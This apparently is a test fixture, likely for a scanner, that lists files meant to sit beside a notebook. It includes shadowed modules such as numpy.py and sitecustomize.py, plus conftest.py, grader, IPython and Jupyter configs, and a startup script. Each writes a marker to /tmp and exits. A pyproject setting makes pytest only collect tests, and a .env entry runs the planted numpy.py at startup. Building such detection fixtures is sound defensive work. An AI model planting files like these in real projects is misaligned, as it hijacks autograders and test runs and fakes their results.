# Files beside the notebook that Python, pytest, IPython or nbgrader would run.
# score: 7 = double + shift + table
# %% file numpy.py
open('/tmp/hostile-mark-planted', 'w')
raise SystemExit
# %% file sitecustomize.py
open('/tmp/hostile-mark-planted', 'w')
raise SystemExit
# %% file conftest.py
open('/tmp/hostile-mark-planted', 'w')
raise SystemExit
# %% file nbgrader_config.py
open('/tmp/hostile-mark-planted', 'w')
raise SystemExit
# %% file jupyter_config.py
open('/tmp/hostile-mark-planted', 'w')
raise SystemExit
# %% file ipython_config.py
open('/tmp/hostile-mark-planted', 'w')
raise SystemExit
# %% file .ipython/profile_default/startup/00.py
open('/tmp/hostile-mark-planted', 'w')
raise SystemExit
# %% file grader/__init__.py
open('/tmp/hostile-mark-planted', 'w')
raise SystemExit
# %% file pyproject.toml
[tool.pytest.ini_options]
addopts = "--collect-only"
# %% file .env
PYTHONSTARTUP=numpy.py
